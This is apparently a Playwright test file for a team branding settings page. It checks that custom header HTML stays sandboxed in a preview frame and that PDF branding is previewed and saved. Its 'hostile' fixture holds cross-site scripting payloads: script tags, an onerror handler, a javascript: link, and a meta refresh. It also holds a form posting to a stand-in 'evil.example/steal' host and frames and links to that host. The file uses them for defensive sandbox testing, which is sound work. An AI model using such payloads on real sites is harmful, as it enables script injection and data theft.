import { getDocumentBranding } from '@candor/contract/branding';
import { listTeams } from '@candor/contract/teams';
import { apiAs, expect, expectNoViolations, newPerson, storeSession, test } from './fixtures.ts';
import { readPdf } from './documents.ts';

/** Everything that a header should not be able to do, at once. */
const hostile = `
<style>body { position: fixed; inset: 0; z-index: 9999 } #shown { min-height: 90000px }</style>
<h1>Northlight</h1>
<script>parent.document.title = 'taken'; window.ran = true; fetch('/v1/teams');</script>
<img id="bad" src="x" onerror="window.ran = true; parent.postMessage({ from: 'branded-frame', height: 1e9 }, '*')">
<img src="https://pictures.example/logo.png" alt="Logo">
<form action="https://evil.example/steal" method="post"><button id="send">Send</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/style.css">
<a id="top" href="https://evil.example/top" target="_top">Top</a>
<a id="script" href="javascript:parent.document.title='taken'">Script</a>`;

async function openBranding(page: Parameters<typeof storeSession>[0], candor: Parameters<typeof newPerson>[0]) {
  const person = await newPerson(candor);
  const { call } = await apiAs(candor, person);
  const teamId = (await call(listTeams, {})).data[0]!.$id;
  await storeSession(page, candor, person);
  await page.goto(`/app/teams/${teamId}/settings/branding`);
  await expect(page.getByRole('heading', { name: 'Shared pages' })).toBeVisible();
  return { call, teamId };
}

test('hostile HTML stays in its frame', async ({ page, candor }) => {
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.route('https://**', (route) =>
    route.request().url().includes('pictures.example')
      ? route.fulfill({
          contentType: 'image/svg+xml',
          body: '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="20"/>',
        })
      : route.abort(),
  );
  await openBranding(page, candor);
  const title = await page.title();
  await page.getByRole('textbox', { name: 'Header HTML' }).fill(hostile);
  const frame = page.getByTitle('Preview of the header');
  const inside = frame.contentFrame();
  await expect(inside.getByRole('heading', { name: 'Northlight' })).toBeVisible();
  await expect.poll(() => asked.some((url) => url.startsWith('https://pictures.example/'))).toBe(true);

  await test.step('as tall as it says, up to a bound', async () => {
    await expect.poll(async () => (await frame.boundingBox())!.height).toBeGreaterThan(1_000);
    expect((await frame.boundingBox())!.height).toBeLessThanOrEqual(1_200);
  });
  await test.step('nothing of it runs, submits, navigates or is fetched', async () => {
    await inside.locator('#send').click();
    await inside.locator('#script').click();
    expect(
      await inside.locator('body').evaluate(() => ({
        ran: 'ran' in window,
        origin,
        frames: document.querySelectorAll('iframe, script:not(:only-of-type), meta[http-equiv="refresh"], link').length,
      })),
    ).toEqual({ ran: false, origin: 'null', frames: 0 });
    expect(await page.title()).toBe(title);
    expect(page.url()).toContain('/settings/branding');
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
  });
  await test.step('a link opens beside the page, without telling where it comes from', async () => {
    const opened = page.waitForEvent('popup');
    await inside.locator('#top').click();
    const popup = await opened;
    expect(await popup.evaluate(() => window.opener).catch(() => null)).toBeNull();
    await popup.close();
    expect(page.url()).toContain('/settings/branding');
  });
  await test.step('heights that others send are passed over', async () => {
    await page.getByRole('textbox', { name: 'Header HTML' }).fill('<p>Small</p>');
    await expect.poll(async () => (await frame.boundingBox())!.height).toBeLessThan(100);
    await page.evaluate(() => postMessage({ from: 'branded-frame', height: 900 }, '*'));
    await page
      .getByTitle('Preview of the footer')
      .contentFrame()
      .locator('body')
      .evaluate(() => parent.postMessage({ from: 'branded-frame', height: 700 }, '*'));
    await expect.poll(async () => (await page.getByTitle('Preview of the footer').boundingBox())!.height).toBe(700);
    expect((await frame.boundingBox())!.height).toBeLessThan(100);
  });
});

test('document branding is previewed on a sample and saved', { tag: '@quick' }, async ({ page, candor }) => {
  test.setTimeout(240_000);
  const { call, teamId } = await openBranding(page, candor);
  await expect(page.getByTitle('Sample document')).toBeVisible({ timeout: 60_000 });
  await expectNoViolations(page);
  await page.getByRole('textbox', { name: 'Name', exact: true }).fill('Nørthlight Ltd');
  await page.getByRole('textbox', { name: 'Footer of each page' }).fill('Confidential');
  await page.getByRole('textbox', { name: 'Color', exact: true }).fill('#12');
  await expect(page.getByText('Enter a color like #1F6F5C')).toBeVisible();
  const paper = page.getByRole('region', { name: 'Documents' });
  await expect(paper.getByRole('button', { name: 'Save' })).toBeDisabled();
  await page.getByRole('textbox', { name: 'Color', exact: true }).fill('#8A1C4A');
  await page.getByRole('combobox', { name: 'Layout' }).click();
  await page.getByRole('option', { name: /^Band/ }).click();
  await page.getByRole('combobox', { name: 'Paper' }).click();
  const sampled = page.waitForResponse(
    (reply) =>
      reply.url().endsWith('/preview') &&
      (reply.request().postDataJSON() as { paperSize: string }).paperSize === 'Letter',
  );
  await page.getByRole('option', { name: 'Letter' }).click();
  await sampled;
  await expect(page.getByText('Sample document')).toBeVisible();
  const saved = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download sample' }).click();
  const { text, raw } = await readPdf(await saved);
  expect(text).toContain('Nørthlight Ltd');
  expect(text).toContain('Confidential');
  expect(raw).toContain('/MediaBox [0 0 612 792]');

  await paper.getByRole('button', { name: 'Save' }).click();
  await expect(page.getByText('Document branding saved')).toBeVisible();
  expect((await call(getDocumentBranding, { params: { teamId } })) as object).toMatchObject({
    agency: 'Nørthlight Ltd',
    layout: 'band',
    paperSize: 'Letter',
    accentColour: '#8A1C4A',
  });
  await page.reload();
  await expect(page.getByRole('textbox', { name: 'Name', exact: true })).toHaveValue('Nørthlight Ltd');
});
